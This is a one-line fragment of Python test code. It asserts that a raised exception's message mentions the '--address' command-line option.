    assert "--address" in str(info.value)
